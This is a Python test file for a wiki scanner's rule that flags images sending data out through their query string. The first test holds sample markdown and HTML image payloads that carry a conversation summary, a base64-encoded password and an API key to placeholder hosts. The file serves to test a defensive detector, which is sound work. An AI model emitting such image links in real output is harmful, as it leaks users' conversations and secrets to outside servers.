"""Links and images that carry data out in their query string."""

import base64

from wiki.scanner import scan
from wiki.tests.scanner.helpers import first, rules


def test_it_flags_images_that_carry_data_in_their_query_string():
    text = "Status:\n\n![ok](https://img.example.com/p.png?d={conversation_summary}) done"
    finding = first(text, "exfiltration-image")
    assert finding.severity == "high"
    assert text[finding.start : finding.end].startswith("![ok](https://img.example.com/p.png?d=")
    encoded = base64.b64encode(b"Conversation: the password is hunter2").decode()
    assert "exfiltration-image" in rules(f"![c](https://c.example/r.png?d={encoded})")
    assert "exfiltration-image" in rules('<img src="https://m.example/t.gif?k=${API_KEY}">')


def test_badges_and_chart_images_are_not_exfiltration():
    text = (
        "![build](https://ci.internal/badge.svg?branch=main&style=flat)\n"
        "![cpu](https://grafana.internal/render?orgId=1&from=now-6h&width=1000)\n"
        "`GET https://hub.internal/api/wiki/search?q={query}&limit={limit}`"
    )
    assert scan(text) == []
